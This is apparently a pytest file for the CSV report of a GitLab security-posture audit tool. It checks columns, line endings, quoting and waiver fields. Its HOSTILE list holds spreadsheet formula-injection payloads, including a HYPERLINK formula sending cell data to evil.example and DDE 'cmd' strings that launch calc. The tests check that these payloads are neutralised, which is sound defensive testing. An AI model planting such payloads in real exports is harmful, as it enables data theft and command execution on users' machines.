"""The csv report: one row per result, RFC 4180, and cells a spreadsheet will not execute."""

from __future__ import annotations

import csv
import io

import pytest

from posture import findings as F
from posture.report import Format, render
from posture.report.csv import COLUMNS
from tests.reporting import make_report

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tTAB=1+1",
    "\rCR=1+1",
]


def finding(
    status: F.Status = F.Status.FAIL,
    *,
    rule: str = "branches.force_push",
    path: str = "acme/app",
    item: str | None = "main",
    message: str = "force push is allowed on main",
    expected: object = False,
    actual: object = True,
    waiver: F.WaiverInfo | None = None,
) -> F.Finding:
    return F.Finding(
        rule_id=rule,
        title="Force push is forbidden",
        family=rule.split(".", maxsplit=1)[0],
        severity="high",
        status=status,
        target_kind="project",
        target_id=1,
        target_path=path,
        target_url=f"https://gitlab.example/{path}",
        item=item,
        message=message,
        expected=expected,
        actual=actual,
        waiver=waiver,
        fingerprint=F.Finding.make_fingerprint(rule, "project", 1, path, item),
    )


def report(*items: F.Finding) -> F.AuditReport:
    return make_report(items)


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_one_row_per_result_of_every_status_with_the_documented_columns() -> None:
    statuses = list(F.Status)
    text = render(report(*(finding(s, item=s.value) for s in statuses)), Format.CSV)
    header = text.split("\r\n", 1)[0]
    assert header.split(",") == list(COLUMNS)
    parsed = rows(text)
    assert [r["status"] for r in parsed] == [s.value for s in statuses]
    assert parsed[0]["target_url"] == "https://gitlab.example/acme/app"


def test_crlf_line_ends_and_no_byte_order_mark() -> None:
    text = render(report(finding(), finding(F.Status.PASS)), Format.CSV)
    assert not text.startswith("\ufeff")
    assert text.endswith("\r\n")
    assert text.count("\r\n") == 3
    assert "\n" not in text.replace("\r\n", "")


def test_non_string_values_are_json_and_none_is_empty() -> None:
    f = finding(expected=["maintainer", "owner"], actual={"level": 30, "ok": False}, item=None)
    row = rows(render(report(f), Format.CSV))[0]
    assert row["expected"] == '["maintainer","owner"]'
    assert row["actual"] == '{"level":30,"ok":false}'
    assert row["item"] == ""
    row = rows(render(report(finding(expected=False, actual="yes")), Format.CSV))[0]
    assert (row["expected"], row["actual"]) == ("false", "yes")


def test_waiver_columns() -> None:
    waiver = F.WaiverInfo(
        reason="accepted",
        owner="team@acme.example",
        expires="2027-03-31",
        status="active",
        source="b.yaml",
    )
    row = rows(render(report(finding(F.Status.WAIVED, waiver=waiver)), Format.CSV))[0]
    assert [row[c] for c in ("waiver_owner", "waiver_expires", "waiver_reason")] == [
        "team@acme.example",
        "2027-03-31",
        "accepted",
    ]
    assert row["waiver_status"] == "active"
    assert rows(render(report(finding()), Format.CSV))[0]["waiver_owner"] == ""


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_cells_from_gitlab_get_a_leading_apostrophe(value: str) -> None:
    f = finding(path=value, item=value, message=value, actual=value)
    row = rows(render(report(f), Format.CSV))[0]
    for column in ("target_path", "item", "message", "actual"):
        assert row[column] == "'" + value
        assert row[column][0] not in "=+-@\t\r"


def test_negative_numbers_are_neutralised_too_and_safe_text_is_untouched() -> None:
    row = rows(render(report(finding(actual=-1, message="a = b + c")), Format.CSV))[0]
    assert row["actual"] == "'-1"
    assert row["message"] == "a = b + c"


def test_quotes_commas_and_newlines_stay_inside_their_cell() -> None:
    nasty = 'main",injected,"x\r\nsecond line, with "quotes"'
    text = render(report(finding(item=nasty), finding(F.Status.PASS)), Format.CSV)
    parsed = rows(text)
    assert len(parsed) == 2
    assert parsed[0]["item"] == nasty
    assert parsed[0]["fingerprint"] == finding(item=nasty).fingerprint


def test_output_is_deterministic() -> None:
    r = report(finding(actual={"b": 1, "a": 2}), finding(F.Status.PASS))
    assert render(r, Format.CSV) == render(r, Format.CSV)
